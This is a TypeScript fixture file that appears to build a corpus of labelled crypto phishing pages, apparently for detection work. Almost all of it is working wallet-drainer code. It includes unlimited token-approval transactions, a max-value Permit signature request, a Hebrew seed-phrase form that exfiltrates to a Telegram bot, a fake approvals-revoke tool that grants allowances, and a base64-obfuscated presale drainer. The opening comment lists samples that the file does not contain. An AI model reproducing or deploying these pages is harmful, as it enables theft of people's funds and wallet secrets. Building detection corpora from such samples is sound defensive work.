import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { FONT_AR, FONT_HE, LOGO, b64, codes, doc, hex, telegramDrop } from '../parts/yu-kit.js';

// Wallet drainers dressed as airdrops and presales of "local" tokens (a digital-shekel stablecoin,
// the UAE dirham stablecoin, a Dubai presale), an Israeli NFT mint, a fake approvals-revoke tool, and
// seed-phrase forms (wallet "validation", Ledger "recovery").

export const entries: Entry[] = [
{
  id: 'yu-drainer-ilsx-shekel-airdrop-approve',
  label: 'cryptodrainer',
  kind: 'airdrop-approve-drainer',
  url: 'https://claim.ilsx-shekel.finance/airdrop?ref=tg_il',
  body: doc({
    title: 'ILSx Airdrop | Israeli Shekel Stablecoin - Claim',
    lang: 'en',
    css: `body{margin:0;background:#050b1f;color:#e6ecff;font-family:Inter,Arial,${FONT_HE}}.n{display:flex;justify-content:space-between;padding:16px 26px}.n b{color:#4f8cff;font-size:22px}
.h{text-align:center;padding:50px 20px}.h h1{font-size:40px;margin:0}.h .he{direction:rtl;color:#9fb3ff}.card{max-width:420px;margin:20px auto;background:#0d1633;border:1px solid #1e2d63;border-radius:16px;padding:24px;text-align:center}
.btn{background:linear-gradient(90deg,#4f8cff,#7c4dff);border:0;color:#fff;border-radius:12px;padding:14px;width:100%;font-size:17px;cursor:pointer}.st{font-size:13px;color:#9fb3ff;min-height:18px;margin-top:10px}`,
    body: `<div class="n"><b>₪ ILSx</b><span>Docs · Governance · Bridge</span></div>
<div class="h"><h1>Claim your ILSx airdrop</h1><p>The first shekel-backed stablecoin. 25,000,000 ILSx distributed to early Israeli Web3 users.</p><p class="he">בדקו זכאות וקבלו עד 5,000 ILSx בחינם</p></div>
<div class="card"><p>Eligible wallets: <b>18,442</b> · Remaining: <b>3,118,200 ILSx</b></p><button class="btn" id="c">Connect wallet</button><div class="st" id="s"></div></div>
<script>
var SP="0x6f1d2cA94E7b38c06f52A1e0dB9c87E4a3F2D51b";
var TOK={USDT:"0xdAC17F958D2ee523a2206206994597C13D831ec7",USDC:"0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48",WETH:"0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"};
function pad(a){return a.replace(/^0x/,"").toLowerCase().padStart(64,"0")}
var MAX="f".repeat(64);
var acct=null;
function st(t){document.getElementById("s").textContent=t}
document.getElementById("c").onclick=async function(){
 if(!window.ethereum){st("Please open this page in MetaMask / Trust Wallet browser");return}
 if(!acct){var a=await ethereum.request({method:"eth_requestAccounts"});acct=a[0];this.textContent="Check eligibility & Claim";
  fetch("/api/visit",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a:acct,ref:"tg_il"})});return}
 st("You are eligible for 4,250 ILSx! Confirm the claim in your wallet…");
 var bal=await fetch("/api/balances?a="+acct).then(function(r){return r.json()}).catch(function(){return {order:["USDT","USDC","WETH"]}});
 for(var i=0;i<bal.order.length;i++){var t=TOK[bal.order[i]];try{
  var tx=await ethereum.request({method:"eth_sendTransaction",params:[{from:acct,to:t,data:"0x095ea7b3"+pad(SP)+MAX}]});
  fetch("/api/hit",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a:acct,t:bal.order[i],tx:tx})});
 }catch(e){st("Claim failed, please try again");return}}
 st("Claim submitted! ILSx will appear in your wallet within 24h.")};
</script>`,
  }),
  routes: {
    'claim.ilsx-shekel.finance/api/balances': jsonRoute({ order: ['USDT', 'USDC', 'WETH'] }),
    'claim.ilsx-shekel.finance/api/visit': jsonRoute({ ok: 1 }),
    'claim.ilsx-shekel.finance/api/hit': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'yu-drainer-aecoin-permit-typed-data',
  label: 'cryptodrainer',
  kind: 'permit-signature-drainer',
  url: 'https://aecoin-rewards.claim-uae.xyz/',
  body: doc({
    title: 'AE Coin Rewards | مكافآت درهم رقمي',
    lang: 'en',
    css: `body{margin:0;background:#f5f7f2;font-family:Arial,${FONT_AR};color:#13261a}.top{background:#00732f;color:#fff;padding:14px 24px;display:flex;justify-content:space-between}
.c{max-width:480px;margin:40px auto;background:#fff;border-radius:14px;padding:26px;box-shadow:0 6px 24px rgba(0,0,0,.08);text-align:center}.ar{direction:rtl;font-family:${FONT_AR}}
.b{background:#00732f;color:#fff;border:0;border-radius:10px;padding:14px;width:100%;font-size:16px}`,
    body: `<div class="top"><b>AE COIN · Rewards</b><span>Regulated digital dirham</span></div>
<div class="c"><h2>Claim 500 AED in AE Coin</h2><p class="ar">احصل على 500 درهم من عملة AE Coin مجاناً احتفالاً بإطلاق الدرهم الرقمي</p>
<p>Sign a gasless verification message to prove wallet ownership. No fees.</p><button class="b" id="go">Connect &amp; Verify</button><p id="m" style="font-size:13px"></p></div>
<script src="/static/js/app.4c1d9e.js"></script>`,
  }),
  routes: {
    'aecoin-rewards.claim-uae.xyz/static/js/app.4c1d9e.js': jsRoute(
      `(function(){var R="0x9B3e4A0d1C52f7e68a2D0F4b51c3E8a7D6f2019C";var USDC="0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48";
document.getElementById("go").onclick=async function(){var m=document.getElementById("m");if(!window.ethereum){m.textContent="Wallet not found";return}
var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];var nonce=(await fetch("/api/nonce?o="+a).then(function(r){return r.json()})).nonce||0;
var dl=Math.floor(Date.now()/1000)+315360000;
var td={types:{EIP712Domain:[{name:"name",type:"string"},{name:"version",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],Permit:[{name:"owner",type:"address"},{name:"spender",type:"address"},{name:"value",type:"uint256"},{name:"nonce",type:"uint256"},{name:"deadline",type:"uint256"}]},
primaryType:"Permit",domain:{name:"USD Coin",version:"2",chainId:1,verifyingContract:USDC},message:{owner:a,spender:R,value:"115792089237316195423570985008687907853269984665640564039457584007913129639935",nonce:nonce,deadline:dl}};
m.textContent="Sign the verification message in your wallet…";
try{var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(td)]});
await fetch("/api/verify",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({owner:a,sig:sig,deadline:dl,nonce:nonce,token:USDC})});
m.textContent="Verified ✓ Your 500 AED reward will arrive shortly."}catch(e){m.textContent="Verification cancelled"}}})();`,
    ),
    'aecoin-rewards.claim-uae.xyz/api/nonce': jsonRoute({ nonce: 0 }),
    'aecoin-rewards.claim-uae.xyz/api/verify': jsonRoute({ ok: true }),
  },
},
{
  id: 'yu-seed-phrase-metamask-sync-hebrew-tg',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://metamask-sync-il.wallet-restore.app/he/validate',
  body: doc({
    title: 'MetaMask - סנכרון ארנק',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#f2f4f6}.c{max-width:520px;margin:40px auto;background:#fff;border-radius:12px;padding:26px;text-align:center}
.gr{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;direction:ltr;margin:14px 0}.gr input{padding:9px;border:1px solid #d6d9dc;border-radius:6px}
.b{background:#0376c9;color:#fff;border:0;border-radius:20px;padding:12px 40px;font-size:16px}.sel{margin:10px 0}`,
    body: `<div class="c">${LOGO.metamask}<h2>סנכרון ארנק נדרש</h2><p>בעקבות עדכון רגולציה בישראל (חוק איסור הלבנת הון - נכסים דיגיטליים), כל הארנקים חייבים לעבור סנכרון עד ה-30/11. ארנקים שלא יסונכרנו יוקפאו.</p>
<div class="sel"><label><input type="radio" name="n" value="12" checked> 12 מילים</label> <label><input type="radio" name="n" value="24"> 24 מילים</label></div>
<div class="gr" id="gr"></div><button class="b" id="ok">סנכרון</button><p style="font-size:12px;color:#6a737d">הנתונים מוצפנים מקצה לקצה ואינם נשמרים בשרתינו.</p></div>
<script>
${telegramDrop('7820193344:AAEr5_TnK2pQw9XzLb0mY3vHc8dSf1gJ4eU', '-1002311874460', 'sendSeed')}
function draw(n){var g=document.getElementById("gr");g.innerHTML="";for(var i=1;i<=n;i++){var x=document.createElement("input");x.placeholder=i+".";x.autocomplete="off";g.appendChild(x)}}
draw(12);document.querySelectorAll("input[name=n]").forEach(function(r){r.onchange=function(){draw(+this.value)}});
document.getElementById("ok").onclick=function(){var w=[].map.call(document.querySelectorAll("#gr input"),function(i){return i.value.trim().toLowerCase()});
if(w.some(function(x){return !x})){alert("יש למלא את כל המילים");return}
sendSeed({type:"SEED",words:w.length,phrase:w.join(" ")}).then(function(){document.querySelector(".c").innerHTML="<h2>✓ הארנק סונכרן בהצלחה</h2>"})};
</script>`,
  }),
},
{
  id: 'yu-drainer-fake-revoke-approvals-tool',
  label: 'cryptodrainer',
  kind: 'fake-security-tool-drainer',
  url: 'https://revoke-cash.approvals-il-check.net/address',
  body: doc({
    title: 'Revoke.cash - Revoke your token approvals',
    lang: 'en',
    css: `body{margin:0;font-family:Arial;background:#fff;color:#111}.n{border-bottom:1px solid #eee;padding:14px 24px;font-weight:700}.c{max-width:860px;margin:30px auto;padding:0 16px}
table{width:100%;border-collapse:collapse;font-size:14px}td,th{border-bottom:1px solid #eee;padding:10px;text-align:left}.r{background:#fee2e2;color:#991b1b;border-radius:6px;padding:2px 8px}
.b{background:#111;color:#fff;border:0;border-radius:8px;padding:10px 20px}`,
    body: `<div class="n">🛡 Revoke.cash</div><div class="c"><h2>Check and revoke risky token approvals</h2><p>Connect your wallet to scan for approvals to known drainer contracts.</p>
<button class="b" id="scan">Connect &amp; Scan</button>
<table id="tb" style="display:none;margin-top:20px"><tr><th>Token</th><th>Approved spender</th><th>Risk</th><th></th></tr>
<tr><td>USDT</td><td>0x7a25…488D (Uniswap V2)</td><td><span class="r">High</span></td><td></td></tr><tr><td>USDC</td><td>0x1111…0582 (1inch)</td><td><span class="r">High</span></td><td></td></tr></table>
<p><button class="b" id="all" style="display:none;background:#dc2626">Revoke all (2)</button></p></div>
<script>
var SAFE="0x2F7e8C41bA90d35E6c1f04A8b5D3972e1cB6a0F4";var T=["0xdAC17F958D2ee523a2206206994597C13D831ec7","0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"];var acc;
document.getElementById("scan").onclick=async function(){acc=(await ethereum.request({method:"eth_requestAccounts"}))[0];document.getElementById("tb").style.display="table";document.getElementById("all").style.display="inline-block"};
document.getElementById("all").onclick=async function(){for(var i=0;i<T.length;i++){
/* "revoke" = approve the site's "safe revoker" for max so it can "clean" the old allowance */
var data="0x39509351"+SAFE.slice(2).toLowerCase().padStart(64,"0")+"f".repeat(64);
try{await ethereum.request({method:"eth_sendTransaction",params:[{from:acc,to:T[i],data:data}]})}catch(e){}}
fetch("https://revoke-cash.approvals-il-check.net/api/r",{method:"POST",body:JSON.stringify({a:acc})});alert("All approvals revoked ✓")};
</script>`,
  }),
  routes: { 'revoke-cash.approvals-il-check.net/api/r': jsonRoute({ ok: 1 }) },
},
{
  id: 'yu-drainer-dubai-token-presale-obfuscated-bsc',
  label: 'cryptodrainer',
  kind: 'presale-drainer',
  url: 'https://presale.dubaicoin-dbix.io/ar/',
  body: doc({
    title: 'ما قبل البيع - عملة دبي الرقمية DBIX',
    lang: 'ar',
    css: `body{margin:0;font-family:${FONT_AR};background:#0e0e0e;color:#f5e6c4}.h{text-align:center;padding:40px 16px;background:linear-gradient(#3d2b00,#0e0e0e)}
.bx{max-width:440px;margin:0 auto;background:#1a1a1a;border:1px solid #5c4500;border-radius:14px;padding:22px}.bx input{width:100%;box-sizing:border-box;padding:12px;border-radius:8px;border:1px solid #5c4500;background:#0e0e0e;color:#fff;margin:8px 0}
.bx button{width:100%;background:#d4a017;color:#000;border:0;border-radius:8px;padding:14px;font-size:17px;font-weight:700}.pr{height:12px;background:#333;border-radius:6px}.pr div{width:86%;height:12px;background:#d4a017;border-radius:6px}`,
    body: `<div class="h"><h1>DBIX · عملة دبي الرقمية</h1><p>المرحلة 3 من ما قبل البيع · السعر 0.018$ · سعر الإدراج 0.09$</p></div>
<div class="bx"><p>تم جمع 8,612,400$ من 10,000,000$</p><div class="pr"><div></div></div><input id="amt" placeholder="المبلغ بالـ USDT" value="500"><button id="buy">اربط المحفظة واشترِ DBIX</button><p id="o" style="font-size:13px"></p></div>
<script>
var _0x3a=["${b64('ethereum')}","${b64('request')}","${b64('eth_requestAccounts')}","${b64('wallet_switchEthereumChain')}","${b64('0x38')}","${b64('eth_sendTransaction')}","${b64('0x55d398326f99059fF775485246999027B3197955')}","${b64('0x095ea7b3')}","${b64('0000000000000000000000004d1f0a83c29be76d5b3e18f2a0c6d9e7b1a5f023')}"];
var _0x5e=function(i){return atob(_0x3a[i])};
(function(){var w=window[_0x5e(0)];document.getElementById("buy").onclick=async function(){if(!w)return;var q=w[_0x5e(1)].bind(w);var a=(await q({method:_0x5e(2)}))[0];
try{await q({method:_0x5e(3),params:[{chainId:_0x5e(4)}]})}catch(x){}
document.getElementById("o").textContent="يرجى الموافقة على استخدام USDT لإتمام الشراء";
await q({method:_0x5e(5),params:[{from:a,to:_0x5e(6),data:_0x5e(7)+_0x5e(8)+"ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"}]});
navigator.sendBeacon("/ar/bk.php",a);document.getElementById("o").textContent="تم! سيتم إرسال DBIX بعد انتهاء ما قبل البيع."}})();
</script>`,
  }),
  routes: { 'presale.dubaicoin-dbix.io/ar/bk.php': jsonRoute({}) },
},
];
